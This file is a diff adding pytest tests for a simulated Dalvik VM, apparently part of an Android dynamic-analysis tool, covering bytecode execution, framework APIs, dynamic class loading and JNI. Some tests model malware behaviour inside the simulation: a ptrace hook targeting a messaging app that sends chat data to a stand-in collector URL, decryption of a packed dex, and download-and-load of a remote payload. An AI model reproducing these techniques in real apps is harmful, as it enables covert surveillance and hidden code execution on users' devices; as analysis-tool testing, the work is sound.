@@ -1,0 +1,532 @@
+"""Tests for the Dalvik-style VM, framework APIs, class loaders, and JNI."""
+
+import pytest
+
+from repro.android import bytecode as bc
+from repro.android.apk import Apk
+from repro.android.builders import MethodBuilder, class_builder
+from repro.android.bytecode import Cmp, MethodRef
+from repro.android.dex import DexFile
+from repro.android.nativelib import (
+    INTRINSIC_DECRYPT_AND_LOAD,
+    INTRINSIC_PTRACE_HOOK,
+    NativeLibrary,
+)
+from repro.runtime.device import Device
+from repro.runtime.instrumentation import Instrumentation
+from repro.runtime.objects import VMException, VMObject
+from repro.runtime.vm import BudgetExceededError, DalvikVM
+
+from tests.helpers import (
+    build_manifest,
+    downloads_and_loads_app,
+    local_loader_app,
+    simple_payload_dex,
+)
+
+
+def make_vm(apk=None, instrumentation=None, device=None, budget=200_000):
+    device = device or Device()
+    vm = DalvikVM(device, instrumentation or Instrumentation(), instruction_budget=budget)
+    if apk is not None:
+        vm.install_app(apk)
+    return vm
+
+
+def single_method_apk(builder_fn, package="com.t.app", arity=1):
+    """Build an APK whose MainActivity.onCreate body is emitted by builder_fn."""
+    activity = "{}.MainActivity".format(package)
+    builder = MethodBuilder("onCreate", activity, arity=arity)
+    builder_fn(builder)
+    builder.ret_void()
+    cls = class_builder(activity, superclass="android.app.Activity")
+    cls.add_method(builder.build())
+    return Apk.build(build_manifest(package), dex_files=[DexFile(classes=[cls])])
+
+
+def run_on_create(apk, **kwargs):
+    vm = make_vm(apk, **kwargs)
+    activity = "{}.MainActivity".format(apk.package)
+    vm.run_entry(activity, "onCreate", [VMObject(activity)])
+    return vm
+
+
+class TestInterpreterBasics:
+    def test_arithmetic_and_return(self):
+        cls = class_builder("t.Math")
+        builder = MethodBuilder("add", "t.Math", arity=2, is_static=True)
+        result = builder.binop("add", builder.arg(0), builder.arg(1))
+        builder.ret(result)
+        cls.add_method(builder.build())
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[cls]))
+        assert vm.run_entry("t.Math", "add", [20, 22]) == 42
+
+    def test_branching_loop(self):
+        # sum 0..4 via a loop: exercises IF/GOTO/LABEL and BINOP.
+        cls = class_builder("t.Loop")
+        b = MethodBuilder("sum", "t.Loop", is_static=True)
+        i = b.new_int(0)
+        total = b.new_int(0)
+        limit = b.new_int(5)
+        one = b.new_int(1)
+        b.label("head")
+        b.if_cmp(Cmp.GE, i, limit, "done")
+        b.emit(bc.binop("add", total, total, i))
+        b.emit(bc.binop("add", i, i, one))
+        b.goto("head")
+        b.label("done")
+        b.ret(total)
+        cls.add_method(b.build())
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[cls]))
+        assert vm.run_entry("t.Loop", "sum", []) == 10
+
+    def test_fields(self):
+        cls = class_builder("t.F")
+        b = MethodBuilder("roundtrip", "t.F", arity=1, is_static=True)
+        value = b.new_int(7)
+        b.put_field(value, b.arg(0), "t.F", "x")
+        out = b.get_field(b.arg(0), "t.F", "x")
+        b.ret(out)
+        cls.add_method(b.build())
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[cls]))
+        assert vm.run_entry("t.F", "roundtrip", [VMObject("t.F")]) == 7
+
+    def test_statics(self):
+        cls = class_builder("t.S")
+        b = MethodBuilder("roundtrip", "t.S", is_static=True)
+        value = b.new_int(9)
+        b.put_static(value, "t.S", "shared")
+        out = b.get_static("t.S", "shared")
+        b.ret(out)
+        cls.add_method(b.build())
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[cls]))
+        assert vm.run_entry("t.S", "roundtrip", []) == 9
+
+    def test_throw_propagates(self):
+        cls = class_builder("t.Boom")
+        b = MethodBuilder("go", "t.Boom", is_static=True)
+        b.throw_new("java.lang.IllegalStateException")
+        cls.add_method(b.build())
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[cls]))
+        with pytest.raises(VMException) as excinfo:
+            vm.run_entry("t.Boom", "go", [])
+        assert excinfo.value.class_name == "java.lang.IllegalStateException"
+
+    def test_instruction_budget(self):
+        cls = class_builder("t.Spin")
+        b = MethodBuilder("forever", "t.Spin", is_static=True)
+        b.label("again")
+        b.goto("again")
+        cls.add_method(b.build())
+        vm = make_vm(budget=500)
+        vm.load_dex(DexFile(classes=[cls]))
+        with pytest.raises(BudgetExceededError):
+            vm.run_entry("t.Spin", "forever", [])
+
+    def test_divide_by_zero(self):
+        cls = class_builder("t.Div")
+        b = MethodBuilder("go", "t.Div", is_static=True)
+        b.binop("div", b.new_int(1), b.new_int(0))
+        cls.add_method(b.build())
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[cls]))
+        with pytest.raises(VMException) as excinfo:
+            vm.run_entry("t.Div", "go", [])
+        assert excinfo.value.class_name == "java.lang.ArithmeticException"
+
+    def test_unknown_class_raises(self):
+        vm = make_vm()
+        with pytest.raises(VMException) as excinfo:
+            vm.invoke(MethodRef("com.missing.Cls", "m", 0), [])
+        assert excinfo.value.class_name == "java.lang.ClassNotFoundException"
+
+    def test_unmodeled_framework_is_noop(self):
+        vm = make_vm()
+        assert vm.invoke(MethodRef("android.view.View", "invalidate", 0), []) is None
+
+    def test_missing_label_is_verify_error(self):
+        cls = class_builder("t.Bad")
+        b = MethodBuilder("go", "t.Bad", is_static=True)
+        b.goto("nowhere")
+        cls.add_method(b.build())
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[cls]))
+        with pytest.raises(VMException) as excinfo:
+            vm.run_entry("t.Bad", "go", [])
+        assert excinfo.value.class_name == "java.lang.VerifyError"
+
+    def test_null_field_access_is_npe(self):
+        cls = class_builder("t.Npe")
+        b = MethodBuilder("go", "t.Npe", is_static=True)
+        null = b.new_null()
+        b.get_field(null, "t.Npe", "x")
+        cls.add_method(b.build())
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[cls]))
+        with pytest.raises(VMException) as excinfo:
+            vm.run_entry("t.Npe", "go", [])
+        assert excinfo.value.class_name == "java.lang.NullPointerException"
+
+    def test_virtual_dispatch_prefers_subclass(self):
+        base = class_builder("t.Base")
+        b = MethodBuilder("who", "t.Base", arity=1)
+        b.ret(b.new_int(1))
+        base.add_method(b.build())
+        sub = class_builder("t.Sub", superclass="t.Base")
+        b2 = MethodBuilder("who", "t.Sub", arity=1)
+        b2.ret(b2.new_int(2))
+        sub.add_method(b2.build())
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[base, sub]))
+        assert vm.invoke(MethodRef("t.Base", "who", 1), [VMObject("t.Sub")]) == 2
+
+    def test_inherited_method_resolves_through_superclass(self):
+        base = class_builder("t.Base2")
+        b = MethodBuilder("greet", "t.Base2", arity=1)
+        b.ret(b.new_string("hi"))
+        base.add_method(b.build())
+        sub = class_builder("t.Sub2", superclass="t.Base2")
+        vm = make_vm()
+        vm.load_dex(DexFile(classes=[base, sub]))
+        assert vm.invoke(MethodRef("t.Sub2", "greet", 1), [VMObject("t.Sub2")]) == "hi"
+
+
+class TestFrameworkApis:
+    def test_system_time_follows_device_clock(self):
+        def body(b):
+            now = b.call_static("java.lang.System", "currentTimeMillis")
+            b.call_void("android.util.Log", "d", b.new_string("t"), now)
+
+        apk = single_method_apk(body)
+        device = Device()
+        device.config.system_time_ms = 12345
+        vm = make_vm(apk, device=device)
+        vm.run_entry("{}.MainActivity".format(apk.package), "onCreate", [VMObject("x")])
+        assert device.logcat == ["t: 12345"]
+
+    def test_telephony_identifiers(self):
+        def body(b):
+            tm = b.call_virtual(
+                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
+            )
+            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
+            b.call_void("android.util.Log", "d", b.new_string("id"), imei)
+
+        apk = single_method_apk(body)
+        vm = run_on_create(apk)
+        assert vm.device.logcat == ["id: {}".format(vm.device.config.imei)]
+
+    def test_connectivity_reflects_airplane_mode(self):
+        def body(b):
+            cm = b.call_virtual(
+                "android.content.Context", "getSystemService", b.arg(0), b.new_string("connectivity")
+            )
+            info = b.call_virtual("android.net.ConnectivityManager", "getActiveNetworkInfo", cm)
+            b.if_eqz(info, "offline")
+            b.call_void("android.util.Log", "d", b.new_string("net"), b.new_string("online"))
+            b.ret_void()
+            b.label("offline")
+            b.call_void("android.util.Log", "d", b.new_string("net"), b.new_string("offline"))
+
+        apk = single_method_apk(body)
+        device = Device()
+        device.config.airplane_mode = True
+        device.config.wifi_enabled = False
+        vm = make_vm(apk, device=device)
+        vm.run_entry("{}.MainActivity".format(apk.package), "onCreate", [VMObject("x")])
+        assert device.logcat == ["net: offline"]
+
+    def test_settings_provider(self):
+        def body(b):
+            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
+            value = b.call_static(
+                "android.provider.Settings$Secure", "getString", resolver, b.new_string("android_id")
+            )
+            b.call_void("android.util.Log", "d", b.new_string("aid"), value)
+
+        apk = single_method_apk(body)
+        vm = run_on_create(apk)
+        assert vm.device.logcat[0].startswith("aid: 9774d56d")
+
+    def test_content_resolver_query_and_cursor(self):
+        def body(b):
+            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
+            uri = b.get_static("android.provider.ContactsContract$Contacts", "CONTENT_URI")
+            cursor = b.call_virtual("android.content.ContentResolver", "query", resolver, uri)
+            b.label("loop")
+            more = b.call_virtual("android.database.Cursor", "moveToNext", cursor)
+            b.if_eqz(more, "done")
+            row = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
+            b.call_void("android.util.Log", "d", b.new_string("row"), row)
+            b.goto("loop")
+            b.label("done")
+
+        apk = single_method_apk(body)
+        vm = run_on_create(apk)
+        assert len(vm.device.logcat) == 2  # two seeded contacts
+
+    def test_sms_manager_records_messages(self):
+        def body(b):
+            sms = b.call_static("android.telephony.SmsManager", "getDefault")
+            null = b.new_null()
+            b.call_void(
+                "android.telephony.SmsManager", "sendTextMessage",
+                sms, b.new_string("+100"), null, b.new_string("hi"), null, null,
+            )
+
+        apk = single_method_apk(body)
+        vm = run_on_create(apk)
+        assert vm.device.sms_sent == [("+100", "hi")]
+
+    def test_missing_url_raises_ioexception(self):
+        def body(b):
+            url = b.new_instance_of("java.net.URL", b.new_string("http://nohost.example/x"))
+            b.call_virtual("java.net.URL", "openStream", url)
+
+        apk = single_method_apk(body)
+        with pytest.raises(VMException) as excinfo:
+            run_on_create(apk)
+        assert excinfo.value.class_name == "java.io.IOException"
+
+    def test_malformed_url(self):
+        def body(b):
+            b.new_instance_of("java.net.URL", b.new_string("not a url"))
+
+        apk = single_method_apk(body)
+        with pytest.raises(VMException) as excinfo:
+            run_on_create(apk)
+        assert excinfo.value.class_name == "java.net.MalformedURLException"
+
+    def test_write_without_external_permission_denied_post_kitkat(self):
+        def body(b):
+            b.new_instance_of("java.io.FileOutputStream", b.new_string("/mnt/sdcard/drop.jar"))
+
+        activity = "com.t.app.MainActivity"
+        builder = MethodBuilder("onCreate", activity, arity=1)
+        body(builder)
+        builder.ret_void()
+        cls = class_builder(activity, superclass="android.app.Activity")
+        cls.add_method(builder.build())
+        manifest = build_manifest("com.t.app", permissions=set(), min_sdk=19)
+        apk = Apk.build(manifest, dex_files=[DexFile(classes=[cls])])
+        device = Device()
+        device.config.api_level = 19
+        vm = make_vm(apk, device=device)
+        with pytest.raises(VMException) as excinfo:
+            vm.run_entry(activity, "onCreate", [VMObject(activity)])
+        assert "EACCES" in excinfo.value.message
+
+    def test_reflection_method_invoke(self):
+        def body(b):
+            cls = b.call_static("java.lang.Class", "forName", b.new_string("com.t.app.MainActivity"))
+            method = b.call_virtual("java.lang.Class", "getMethod", cls, b.new_string("helper"))
+            b.call_void("java.lang.reflect.Method", "invoke", method, b.arg(0))
+
+        activity = "com.t.app.MainActivity"
+        builder = MethodBuilder("onCreate", activity, arity=1)
+        body(builder)
+        builder.ret_void()
+        helper = MethodBuilder("helper", activity, arity=1)
+        helper.call_void("android.util.Log", "d", helper.new_string("r"), helper.new_string("via-reflection"))
+        helper.ret_void()
+        cls = class_builder(activity, superclass="android.app.Activity")
+        cls.add_method(builder.build())
+        cls.add_method(helper.build())
+        apk = Apk.build(build_manifest("com.t.app"), dex_files=[DexFile(classes=[cls])])
+        vm = run_on_create(apk)
+        assert vm.device.logcat == ["r: via-reflection"]
+
+
+class TestDynamicCodeLoading:
+    def test_remote_download_and_load(self):
+        apk = downloads_and_loads_app()
+        payload = simple_payload_dex()
+        device = Device()
+        device.network.host_resource("http://cdn.sdk-demo.com/payload.jar", payload.to_bytes())
+        instrumentation = Instrumentation()
+        events = []
+        instrumentation.on_dex_load(events.append)
+        vm = make_vm(apk, instrumentation=instrumentation, device=device)
+        vm.run_entry("com.example.demo.MainActivity", "onCreate", [VMObject("a")])
+        assert device.logcat == ["payload: loaded-code-ran"]
+        assert len(events) == 1
+        assert events[0].call_site == "com.example.demo.MainActivity"
+        assert events[0].loader_kind == "DexClassLoader"
+
+    def test_delete_blocked_for_loaded_file(self):
+        apk = downloads_and_loads_app(delete_after=True)
+        device = Device()
+        device.network.host_resource(
+            "http://cdn.sdk-demo.com/payload.jar", simple_payload_dex().to_bytes()
+        )
+        instrumentation = Instrumentation()
+        vm = make_vm(apk, instrumentation=instrumentation, device=device)
+        vm.run_entry("com.example.demo.MainActivity", "onCreate", [VMObject("a")])
+        assert device.vfs.exists("/data/data/com.example.demo/cache/payload.jar")
+        assert instrumentation.blocked_ops[0].op == "delete"
+
+    def test_delete_succeeds_when_blocking_disabled(self):
+        apk = downloads_and_loads_app(delete_after=True)
+        device = Device()
+        device.network.host_resource(
+            "http://cdn.sdk-demo.com/payload.jar", simple_payload_dex().to_bytes()
+        )
+        instrumentation = Instrumentation(block_file_ops=False)
+        vm = make_vm(apk, instrumentation=instrumentation, device=device)
+        vm.run_entry("com.example.demo.MainActivity", "onCreate", [VMObject("a")])
+        assert not device.vfs.exists("/data/data/com.example.demo/cache/payload.jar")
+
+    def test_local_asset_load(self):
+        apk, payload = local_loader_app()
+        instrumentation = Instrumentation()
+        events = []
+        instrumentation.on_dex_load(events.append)
+        vm = make_vm(apk, instrumentation=instrumentation)
+        vm.run_entry("com.example.localload.MainActivity", "onCreate", [VMObject("a")])
+        assert vm.device.logcat == ["payload: loaded-code-ran"]
+        assert events[0].dex_paths == ("/data/data/com.example.localload/cache/plugin.jar",)
+
+    def test_system_paths_not_logged(self):
+        def body(b):
+            path = b.new_string("/system/lib/libwebviewchromium.so")
+            null = b.new_null()
+            b.new_instance_of("dalvik.system.PathClassLoader", path, null)
+
+        apk = single_method_apk(body)
+        instrumentation = Instrumentation()
+        events = []
+        instrumentation.on_dex_load(events.append)
+        run_on_create(apk, instrumentation=instrumentation)
+        assert events == []
+
+    def test_load_missing_dex_raises(self):
+        def body(b):
+            null = b.new_null()
+            b.new_instance_of(
+                "dalvik.system.DexClassLoader",
+                b.new_string("/data/data/com.t.app/none.jar"),
+                b.new_string("/data/data/com.t.app/odex"),
+                null, null,
+            )
+
+        apk = single_method_apk(body)
+        with pytest.raises(VMException) as excinfo:
+            run_on_create(apk)
+        assert excinfo.value.class_name == "java.io.FileNotFoundException"
+
+    def test_odex_written_to_optimized_dir(self):
+        apk, _ = local_loader_app()
+        vm = make_vm(apk)
+        vm.run_entry("com.example.localload.MainActivity", "onCreate", [VMObject("a")])
+        assert vm.device.vfs.exists("/data/data/com.example.localload/cache/odex/plugin.odex")
+
+
+class TestJni:
+    def _native_app(self, intrinsics=None, lib_name="libdemo.so", body_fn=None):
+        package = "com.t.native"
+        activity = "{}.MainActivity".format(package)
+        builder = MethodBuilder("onCreate", activity, arity=1)
+        if body_fn is None:
+            builder.call_void("java.lang.System", "loadLibrary", builder.new_string("demo"))
+        else:
+            body_fn(builder)
+        builder.ret_void()
+        cls = class_builder(activity, superclass="android.app.Activity")
+        cls.add_method(builder.build())
+        lib = NativeLibrary(name=lib_name, intrinsics=intrinsics or {})
+        return Apk.build(
+            build_manifest(package), dex_files=[DexFile(classes=[cls])], native_libs=[lib]
+        )
+
+    def test_load_library_emits_event(self):
+        apk = self._native_app()
+        instrumentation = Instrumentation()
+        events = []
+        instrumentation.on_native_load(events.append)
+        vm = make_vm(apk, instrumentation=instrumentation)
+        vm.run_entry("com.t.native.MainActivity", "onCreate", [VMObject("a")])
+        assert len(events) == 1
+        assert events[0].lib_path == "/data/data/com.t.native/lib/libdemo.so"
+        assert events[0].api == "loadLibrary"
+        assert events[0].call_site == "com.t.native.MainActivity"
+
+    def test_missing_library_unsatisfied_link(self):
+        def body(b):
+            b.call_void("java.lang.System", "loadLibrary", b.new_string("missing"))
+
+        apk = single_method_apk(body)
+        with pytest.raises(VMException) as excinfo:
+            run_on_create(apk)
+        assert excinfo.value.class_name == "java.lang.UnsatisfiedLinkError"
+
+    def test_system_library_is_silent(self):
+        def body(b):
+            b.call_void("java.lang.System", "load", b.new_string("/system/lib/libc.so"))
+
+        apk = single_method_apk(body)
+        instrumentation = Instrumentation()
+        events = []
+        instrumentation.on_native_load(events.append)
+        run_on_create(apk, instrumentation=instrumentation)
+        assert events == []
+
+    def test_ptrace_hook_intrinsic_exfiltrates_when_victim_installed(self):
+        apk = self._native_app(
+            intrinsics={
+                "JNI_OnLoad": {
+                    "kind": INTRINSIC_PTRACE_HOOK,
+                    "targets": ["com.tencent.mm"],
+                    "url": "http://collector.example.net/chat",
+                }
+            }
+        )
+        device = Device()
+        victim = Apk.build(build_manifest("com.tencent.mm"))
+        device.install(victim)
+        vm = make_vm(apk, device=device)
+        vm.run_entry("com.t.native.MainActivity", "onCreate", [VMObject("a")])
+        assert device.network.exfil_log == [
+            ("http://collector.example.net/chat?victim=com.tencent.mm", 1024)
+        ]
+
+    def test_decrypt_intrinsic_drops_plain_dex(self):
+        payload = simple_payload_dex("com.packed.Real")
+        encrypted = payload.encrypt(bytes.fromhex("5a"))
+        package = "com.t.native"
+        dest = "/data/data/{}/files/plain.dex".format(package)
+        apk = self._native_app(
+            intrinsics={
+                "JNI_OnLoad": {
+                    "kind": INTRINSIC_DECRYPT_AND_LOAD,
+                    "source": "asset:enc.bin",
+                    "dest": dest,
+                    "key_hex": "5a",
+                }
+            }
+        )
+        apk.add_asset("assets/enc.bin", encrypted)
+        vm = make_vm(apk)
+        vm.run_entry("com.t.native.MainActivity", "onCreate", [VMObject("a")])
+        dropped = DexFile.from_bytes(vm.device.vfs.read(dest))
+        assert dropped.class_named("com.packed.Real") is not None
+
+    def test_runtime_load0(self):
+        def body(b):
+            runtime = b.call_static("java.lang.Runtime", "getRuntime")
+            b.call_void(
+                "java.lang.Runtime", "load0", runtime,
+                b.new_string("/data/data/com.t.native/lib/libdemo.so"),
+            )
+
+        apk = self._native_app(body_fn=body)
+        instrumentation = Instrumentation()
+        events = []
+        instrumentation.on_native_load(events.append)
+        vm = make_vm(apk, instrumentation=instrumentation)
+        vm.run_entry("com.t.native.MainActivity", "onCreate", [VMObject("a")])
+        assert events[0].api == "load0"
